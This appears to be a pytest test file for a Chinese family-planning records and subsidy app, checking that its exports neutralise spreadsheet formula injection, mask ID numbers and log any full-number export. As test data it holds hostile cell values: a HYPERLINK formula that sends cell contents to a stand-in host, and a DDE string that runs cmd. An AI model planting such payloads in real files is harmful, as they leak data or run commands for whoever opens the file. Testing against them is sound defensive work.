"""Every export after hostile input: persons named like formulas come in through the real import, and no
export (persons, the import's error report, the bank file in CSV and xlsx, the roster and its 公示 list, the
scoring and the indicator workbooks, the admin's exports) hands a spreadsheet a formula. The persons export
masks ID numbers and phones for every role unless a role with need states a purpose, which is logged."""

# The fixtures of other apps' conftests are imported by name, and pytest passes them back in as arguments.
# ruff: noqa: F811

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.db import DatabaseError, transaction
from django.http import StreamingHttpResponse
from django.utils import timezone
from openpyxl import load_workbook

from apps.areas.models import Area
from apps.core.errors import RuleViolation
from apps.core.exports import FORMULA_PREFIXES, csv_bytes, neutralise, sheet_name, xlsx_bytes
from apps.core.models import ExportLog
from apps.core.privacy import mask_id_number
from apps.registry import exports as registry_exports
from apps.registry.exports import persons_export
from apps.registry.models import Person
from apps.subsidies.models import Roster
from apps.subsidies.services import (
    bank_account_save,
    batch_create,
    roster_approve,
    roster_review,
    roster_village_submit,
    rosters_generate,
)
from tests.conftest import COUNTY, TOWNSHIP_A, TOWNSHIP_B, VILLAGE_A, VILLAGE_B
from tests.registry.conftest import make_id_number, make_person  # noqa: F401
from tests.scoring.conftest import (  # noqa: F401
    ALL_MET,
    TOWNSHIP_C,
    YEAR,
    assessments,
    assessor,
    contracts,
    make_snapshot,
    scheme,
)
from tests.subsidies.conftest import card_number, make_family, programme, roster_of, users  # noqa: F401

HYPERLINK = '=HYPERLINK("http://x?q="&A2,"点击查看")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
PERSONS_HEADER = ["身份证号", "姓名", "性别", "出生日期", "民族", "户籍性质", "现住址区划代码", "户编号", "与户主关系",
                  "婚姻状况", "联系电话", "就业类型"]  # fmt: skip


# --- what "no formula" means, checked on the file itself ---------------------------------------------------


def assert_no_formula_xlsx(content: bytes) -> list[object]:
    """No cell is a formula (openpyxl's data_type "f", or an <f> element in the sheet XML), and no text cell
    starts with what a spreadsheet would run. Returns every cell value, for the test to look for its data."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    values = []
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


INFO_LINE = re.compile(r"^编制单位：(.+)　　期间：(.+)　　生成时间：(\d{4}-\d\d-\d\d \d\d:\d\d)$")


def assert_reads_well(content: bytes, *, office: str, title: str = "") -> dict[str, tuple[str, str]]:
    """Every sheet: a name Excel accepts that says what it holds, landscape and fitted to the page width, a
    footer with the page number. The report's heading, on top of its data sheets (title; 编制单位, period,
    generation time in local time; the table's header row repeated on every page) or, for a file whose table must
    start on the first row, on a sheet of its own. Returns ``{sheet: (title, period)}`` of the headings."""
    wb = load_workbook(io.BytesIO(content))
    headings = {}
    now = timezone.localtime().replace(tzinfo=None)
    for ws in wb.worksheets:
        assert 0 < len(ws.title) <= 31 and not ws.title.startswith("Sheet"), ws.title
        assert not set(ws.title) & set("\\/*?:[]"), ws.title
        setup = ws.page_setup
        assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0), ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and "&P" in ws.oddFooter.center.text, ws.title
        if ws["A1"].value == "标题":  # the heading on a sheet of its own
            about = {r[0]: r[1] for r in ws.iter_rows(values_only=True)}
            made, period = about["生成时间"], about["期间"]
            assert about["编制单位"] == office
            headings[ws.title] = (about["标题"], period)
        elif "文件说明" in wb.sheetnames:  # a table that must start on the first row (the bank's file)
            continue
        else:
            match = INFO_LINE.match(str(ws["A2"].value))
            assert match, (ws.title, ws["A2"].value)
            assert match.group(1) == office, ws.title
            assert re.fullmatch(r"\$(\d+):\$\1", ws.print_title_rows or "") and ws.print_title_rows >= "$3", ws.title
            assert ws["A1"].font.b and ws.oddFooter.left.text == office
            headings[ws.title] = (ws["A1"].value, match.group(2))
            made = match.group(3)
        assert abs(datetime.strptime(made, "%Y-%m-%d %H:%M") - now) < timedelta(minutes=2)  # local time
    assert headings, "no heading in the workbook"
    if title:
        assert title in {t for t, _ in headings.values()}, headings
    return headings


def assert_no_formula_csv(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_PREFIXES), value
    return rows


def _neutralised_names(values) -> set[str]:
    """The hostile names as they must appear in an export: quoted (the import trims surrounding spaces)."""
    return {v for v in values if isinstance(v, str) and v.startswith("'")}


# --- hostile persons through the real import ---------------------------------------------------------------


def _import_hostile(tmp_path, settings, capsys) -> dict:
    """A persons sheet (CSV, so the names stay text on the way in) whose names, ethnicity, household number,
    relation and phone are formulas; the last row has a wrong check digit, so it lands in the error report."""
    settings.MEDIA_ROOT = tmp_path / "media"
    rows = []
    for i, name in enumerate(HOSTILE):
        born = date(1970 + i, 1, 1)
        rows.append([make_id_number(born, "F"), name, "女", born.isoformat(), "@民族", "农业", VILLAGE_A,
                     f"=H{i}+1", "+户主", "已婚", "-1-3812345678", "农民"])  # fmt: skip
    bad = make_id_number(date(1990, 5, 5), "M")
    bad = bad[:-1] + ("0" if bad[-1] != "0" else "1")
    rows.append([bad, HYPERLINK, "男", "1990-05-05", "汉族", "农业", VILLAGE_A, "", "", "", "", ""])
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(PERSONS_HEADER)
        writer.writerows(rows)
    call_command("import_sheet", "persons", str(path), "--valid-rows-only")
    summary = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert (summary["created"], summary["errors"]) == (len(HOSTILE), 1)
    return summary


def test_the_writer_neutralises_text_and_keeps_numbers_numbers():
    assert [neutralise(v) for v in ["=1+1", "+1", "-2", "@A1", "\t=1", "\r=1", "张三", "1-2"]] == [
        "'=1+1", "'+1", "'-2", "'@A1", "'\t=1", "'\r=1", "张三", "1-2"
    ]  # fmt: skip
    assert neutralise(Decimal("-12.50")) == Decimal("-12.50") and neutralise(-3) == -3
    assert neutralise("名\x01字") == "名\ufffd字"  # a control character would fail the xlsx: replaced
    ws = load_workbook(io.BytesIO(xlsx_bytes(["金额", "文本"], [[Decimal("-12.50"), "=1+1"], [960, "-2"]]))).active
    assert [(c.value, c.data_type) for c in ws[2]] == [(-12.5, "n"), ("'=1+1", "s")]
    assert [(c.value, c.data_type) for c in ws[3]] == [(960, "n"), ("'-2", "s")]
    assert csv_bytes(["金额", "文本"], [[Decimal("-12.50"), "=1+1"]]).decode("utf-8-sig").splitlines() == [
        "金额,文本", "-12.50,'=1+1"
    ]  # fmt: skip


def test_persons_export_and_error_report_carry_no_formula(tmp_path, settings, capsys, client, make_user):
    summary = _import_hostile(tmp_path, settings, capsys)
    # "\t=1" and "\r=1" are trimmed to "=1" on the way in.
    assert set(Person.objects.values_list("name", flat=True)) == {HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "=1"}

    # The error report holds the failed row as it was: the hostile name, quoted.
    report = open(summary["error_report"], "rb").read()  # noqa: SIM115
    values = assert_no_formula_xlsx(report)
    assert "'" + HYPERLINK in values
    title, period = assert_reads_well(report, office="人口和计划生育办公室")["错误行"]  # the command: no area
    assert title == "人口信息导入错误报告：hostile.csv" and period.startswith(f"导入任务{summary['job']}，上传于")

    clerk = make_user("clerk_x", TOWNSHIP_A, "township_clerk")
    client.force_login(clerk)
    masked = client.get("/registry/persons/export/").getvalue()
    values = assert_no_formula_xlsx(masked)
    today = timezone.localdate()
    assert assert_reads_well(masked, office="平舒镇人口和计划生育办公室") == {
        "人口花名册": ("平舒镇人口花名册", f"截至{today:%Y年%m月%d日}")
    }
    assert {"'" + HYPERLINK, "'+1+1", "'-2+3", "'@SUM(A1)"} <= _neutralised_names(values)
    assert "'@民族" in values and "'+户主" in values and "'=H0+1" in values
    full = client.post("/registry/persons/export/full/", {"purpose": "报送县公安局核对户籍信息"})
    values = assert_no_formula_xlsx(full.getvalue())
    assert "'-1-3812345678" in values  # the phone in full, still not a formula
    assert {"'" + HYPERLINK, "'+1+1"} <= _neutralised_names(values)


def test_bank_files_rosters_and_notices_carry_no_formula(client, make_family, programme, users):
    a = make_family(
        surname=HYPERLINK, father=date(1960, 1, 1), mother=date(1961, 1, 1), children=[("M", date(1990, 1, 1))]
    )
    b = make_family(
        surname="@SUM(A1)", father=date(1958, 1, 1), mother=date(1959, 1, 1),
        children=[("F", date(1985, 1, 1)), ("F", date(1987, 1, 1))],
    )  # fmt: skip
    banks = ["=1+1", "\t=cmd|' /C calc'!A0", "-2+3", "+农村信用社"]
    for i, parent in enumerate((a.father, a.mother, b.father, b.mother)):
        bank_account_save(person=parent, kind="card", bank_name=banks[i], account_number=card_number(f"62231{i}"),
                          by=None)  # fmt: skip
    rosters_generate(programme=programme("rural_reward"), period="2025", by=users["admin"])
    roster = roster_of("rural_reward", "2025")
    roster_village_submit(roster=roster, by=users["village"])
    roster_review(roster=roster, by=users["reviewer"])
    roster_approve(roster=roster, by=users["approver"])
    Roster.objects.filter(pk=roster.pk).update(approved_on=date.today() - timedelta(days=30))  # 公示 is over
    roster.refresh_from_db()

    client.force_login(users["reviewer"])
    response = client.get(f"/subsidies/rosters/{roster.pk}/export.xlsx")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == f'attachment; filename="roster-{roster.pk}.xlsx"'
    content = response.getvalue()
    values = assert_no_formula_xlsx(content)
    assert assert_reads_well(content, office="平舒镇人口和计划生育办公室") == {
        "花名册": ("平舒镇农村部分计划生育家庭奖励扶助（2025）花名册", "2025（2025-01-01至2025-12-31）")
    }
    assert {"'" + HYPERLINK + "父", "'@SUM(A1)母", "'=1+1", "'+农村信用社"} <= set(values)
    assert a.father.id_number not in values  # masked
    assert a.father.id_number[:6] + "********" + a.father.id_number[-4:] in values
    content = client.get(f"/subsidies/rosters/{roster.pk}/notice.xlsx").getvalue()
    values = assert_no_formula_xlsx(content)
    notice = "平舒镇农村部分计划生育家庭奖励扶助（2025）对象公示"
    assert_reads_well(content, office="平舒镇人口和计划生育办公室", title=notice)
    assert {"'" + HYPERLINK + "母", "'@SUM(A1)父"} <= set(values) and a.mother.id_number not in values

    batch = batch_create(roster=roster, by=users["payer"])
    client.force_login(users["payer"])
    response = client.get(f"/subsidies/batches/{batch.pk}/export/csv/")
    assert isinstance(response, StreamingHttpResponse) and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="batch-{batch.pk}.csv"'
    rows = assert_no_formula_csv(response.getvalue())
    assert rows[0][3] == "开户银行"
    assert sorted(r[3] for r in rows[1:]) == sorted(["'=1+1", "'=cmd|' /C calc'!A0", "'-2+3", "'+农村信用社"])
    assert {r[5] for r in rows[1:]} == {"960.00"}  # amounts exact, as numbers
    xlsx = client.get(f"/subsidies/batches/{batch.pk}/export/xlsx/").getvalue()
    values = assert_no_formula_xlsx(xlsx)
    assert "'" + HYPERLINK + "父" in values and a.father.id_number in values  # the bank needs full numbers
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert [(c.value, c.data_type) for c in sheet[2]][5] == (960, "n")
    # The bank's program reads the table from the first row: what the file is stands on a sheet of its own.
    assert sheet.title == "代发明细" and sheet["A1"].value == "付款编号"
    assert assert_reads_well(xlsx, office="大城县人口和计划生育办公室") == {
        "文件说明": (f"平舒镇农村部分计划生育家庭奖励扶助代发文件（批次{batch.pk}）", "2025")
    }
    # Both bank files are logged, with the fixed purpose, the row count and no number.
    logs = list(ExportLog.objects.filter(export__startswith="subsidies.batch").order_by("id"))
    assert [(x.export, x.user, x.rows, x.full_ids, x.purpose) for x in logs] == [
        ("subsidies.batch.csv", users["payer"], 4, True, "银行代发"),
        ("subsidies.batch.xlsx", users["payer"], 4, True, "银行代发"),
    ]


def test_scoring_and_indicator_workbooks_carry_no_formula(
    client,
    tmp_path,
    settings,
    capsys,
    assessments,
    assessor,
    county_viewer,
    areas,
):
    from apps.indicators.services import indicators_compute
    from apps.scoring.models import Pairing
    from apps.scoring.services import assessments_recompute

    _import_hostile(tmp_path, settings, capsys)
    Area.objects.filter(code=VILLAGE_A).update(name='=HYPERLINK("http://x","村")')
    Area.objects.filter(code=TOWNSHIP_A).update(name="@SUM(A1)镇")

    make_snapshot(f"{YEAR}Q3-YTD", {TOWNSHIP_A: ALL_MET, TOWNSHIP_B: ALL_MET, TOWNSHIP_C: ALL_MET})
    Pairing.objects.create(area_id=TOWNSHIP_A, year=YEAR, kind="leader", name="-县委副书记")
    assessments_recompute(year=YEAR)
    client.force_login(assessor)
    content = client.get("/scoring/export/", {"year": YEAR}).getvalue()
    values = assert_no_formula_xlsx(content)
    assert assert_reads_well(content, office="大城县人口和计划生育办公室") == {
        f"{YEAR}年考核结果": (f"{YEAR}年目标管理责任制考核结果", f"{YEAR}年度")
    }
    assert "'@SUM(A1)镇" in values and "'-县委副书记" in values
    assert 228 in values  # totals stay numbers

    indicators_compute(period="2024Q1")
    client.force_login(county_viewer)
    response = client.get("/indicators/export.xlsx", {"period": "2024Q1", "area": COUNTY})
    content = response.getvalue()
    values = assert_no_formula_xlsx(content)
    headings = assert_reads_well(content, office="大城县人口和计划生育办公室")
    assert headings["乡镇"] == ("大城县人口和计划生育统计指标（乡镇（街道））", "2024年第1季度")
    assert '\'=HYPERLINK("http://x","村")' in values and "'@SUM(A1)镇" in values


def test_admin_exports_carry_no_formula(admin_client, areas):
    Area.objects.filter(code=VILLAGE_A).update(name="=1+1")
    for fmt, check in ((0, assert_no_formula_xlsx), (1, assert_no_formula_csv)):
        form = {"format": fmt, "resource": 0, "arearesource_code": "on", "arearesource_name": "on"}
        response = admin_client.post("/admin/areas/area/export/", form)
        content = response.getvalue()
        assert response.status_code == 200, content[:500]
        values = check(content)
        if fmt == 0:
            assert_reads_well(content, office="人口和计划生育办公室", title="配置数据导出")
        flat = values if fmt == 0 else [v for row in values for v in row]
        assert "'=1+1" in flat


# --- masking and the log of full numbers --------------------------------------------------------------------


def test_persons_export_is_masked_by_default_and_full_only_with_a_logged_purpose(
    client,
    make_person,
    make_user,
):
    person = make_person("甲芳", "F", date(1990, 1, 1), phone="13812345678")
    clerk = make_user("clerk_m", TOWNSHIP_A, "township_clerk")
    client.force_login(clerk)

    def first_row(response):
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        return [c.value for c in load_workbook(io.BytesIO(response.getvalue())).active[4]]  # under the heading

    row = first_row(client.get("/registry/persons/export/"))
    assert (row[0], row[11]) == ("131025********" + person.id_number[-4:], "138****5678")
    assert row[0] == person.id_number[:6] + "********" + person.id_number[-4:]

    # Full numbers: no purpose, or one that says nothing, gives the form again with the reason and no file.
    page = client.post("/registry/persons/export/full/", {"purpose": ""})
    assert page["Content-Type"].startswith("text/html") and "请填写用途" in page.getvalue().decode()
    page = client.post("/registry/persons/export/full/", {"purpose": "工作需要"})
    assert "用途至少填写5个字" in page.getvalue().decode()
    assert client.get("/registry/persons/export/full/").status_code == 200  # the form
    assert not ExportLog.objects.filter(full_ids=True).exists()

    row = first_row(client.post("/registry/persons/export/full/", {"purpose": "报送县公安局核对户籍信息"}))
    assert (row[0], row[11]) == (person.id_number, "13812345678")

    logs = list(ExportLog.objects.order_by("id"))
    assert [(x.user, x.export, x.area_code, x.rows, x.full_ids, x.purpose) for x in logs] == [
        (clerk, "registry.persons", TOWNSHIP_A, 1, False, ""),
        (clerk, "registry.persons", TOWNSHIP_A, 1, True, "报送县公安局核对户籍信息"),
    ]
    assert all(person.id_number not in str(vars(x)) and "13812345678" not in str(vars(x)) for x in logs)
    # The log is append-only: the database refuses to change or erase it.
    with pytest.raises(DatabaseError, match="Cannot update or delete"), transaction.atomic():
        ExportLog.objects.filter(pk=logs[1].pk).update(purpose="")
    with pytest.raises(DatabaseError, match="Cannot update or delete"), transaction.atomic():
        ExportLog.objects.filter(pk=logs[1].pk).delete()


def test_a_role_without_need_gets_no_full_numbers(client, make_person, county_viewer):
    person = make_person("乙芳", "F", date(1991, 1, 1))
    client.force_login(county_viewer)
    assert client.get("/registry/persons/export/full/").status_code == 403  # the role matrix refuses the role
    assert client.post("/registry/persons/export/full/", {"purpose": "报送县公安局核对户籍信息"}).status_code == 403
    with pytest.raises(RuleViolation, match="您的角色不能导出完整身份证号"):
        persons_export(user=county_viewer, purpose="报送县公安局核对户籍信息")
    download = persons_export(user=county_viewer)
    values = assert_no_formula_xlsx(download.content())
    assert download.rows == 1 and person.id_number not in values and mask_id_number(person.id_number) in values
    assert not ExportLog.objects.filter(full_ids=True).exists()


def test_sheet_names_are_what_excel_accepts():
    assert sheet_name("2025年[奖扶]名册: 平舒镇/南潘庄村*?") == "2025年_奖扶_名册_ 平舒镇_南潘庄村__"
    assert sheet_name("'" + "长" * 40 + "'") == "长" * 31
    assert sheet_name("[]") == "__" and sheet_name("") == "数据"


# --- streaming: the file leaves in pieces, as its rows are read ----------------------------------------------


def _many_persons(count: int) -> list[Person]:
    born = date(1950, 1, 1)
    people = []
    for i in range(count):
        sex, day = ("F" if i % 2 else "M"), born + timedelta(days=i)
        people.append(Person(name=f"=人{i:04d}" if i == 7 else f"人{i:04d}", sex=sex, birth_date=day,
                             hukou_type="agricultural", village_id=VILLAGE_B if i % 3 == 0 else VILLAGE_A,
                             id_number=make_id_number(day, sex), phone=f"138{i:08d}"))  # fmt: skip
    return Person.objects.bulk_create(people)


def test_the_persons_export_streams_thousands_of_rows_as_xlsx_and_csv(client, areas, county_viewer):
    people = {p.name: p for p in _many_persons(3000)}
    client.force_login(county_viewer)

    response = client.get("/registry/persons/export/")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == f'attachment; filename="persons-{COUNTY}.xlsx"'
    assert "no-store" in response["Cache-Control"]  # personal data
    # Logged before the first byte leaves, with the count of what follows.
    assert [(x.export, x.rows, x.full_ids) for x in ExportLog.objects.all()] == [("registry.persons", 3000, False)]
    chunks = list(response.streaming_content)
    content = b"".join(chunks)
    assert len(chunks) > 5 and max(map(len, chunks)) < len(content) / 4  # pieces, not one workbook at the end
    values = assert_no_formula_xlsx(content)
    assert_reads_well(content, office="大城县人口和计划生育办公室", title="大城县人口花名册")
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=4, values_only=True))
    assert len(rows) == 3000 and "'=人0007" in values
    # Roster order: village, then household, then the person; ID numbers and phones masked; dates are dates.
    assert [r[6] for r in rows] == sorted(r[6] for r in rows)
    first = rows[0]
    person = people[first[1]]
    assert first[:2] == (mask_id_number(person.id_number), "人0001") and first[11] == "138****0001"
    assert first[6] == VILLAGE_A and first[7] == Area.objects.get(code=VILLAGE_A).name
    assert first[3] == datetime(1950, 1, 2) and first[2] == "女" and first[5] == "农业"
    assert not {p.id_number for p in people.values()} & set(values)

    response = client.get("/registry/persons/export/", {"format": "csv"})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == f'attachment; filename="persons-{COUNTY}.csv"'
    chunks = list(response.streaming_content)
    assert len(chunks) > 5
    lines = assert_no_formula_csv(b"".join(chunks))
    assert lines[0] == registry_exports.PERSON_HEADERS and len(lines) == 3001
    assert [line[6] for line in lines[1:]] == [r[6] for r in rows]
    assert lines[1][0] == mask_id_number(person.id_number) and lines[1][3] == "1950-01-02"
    assert ExportLog.objects.filter(export="registry.persons", rows=3000).count() == 2


def test_an_export_refused_is_refused_before_its_first_byte(client, areas, county_viewer, monkeypatch):
    _many_persons(30)
    client.force_login(county_viewer)
    monkeypatch.setattr(registry_exports, "EXPORT_ROW_LIMIT", 29)  # one sheet of Excel holds 29 rows here
    response = client.get("/registry/persons/export/", follow=True)
    assert "共30人，超过Excel一张工作表的上限，请按乡镇导出或导出CSV" in response.getvalue().decode()
    assert not ExportLog.objects.exists()
    assert client.get("/registry/persons/export/", {"format": "pdf"}).status_code == 404
    # CSV has no sheet limit; one township's roster fits a sheet.
    assert len(assert_no_formula_csv(client.get("/registry/persons/export/", {"format": "csv"}).getvalue())) == 31
    content = client.get("/registry/persons/export/", {"area": VILLAGE_B}).getvalue()
    assert len(list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=4))) == 10
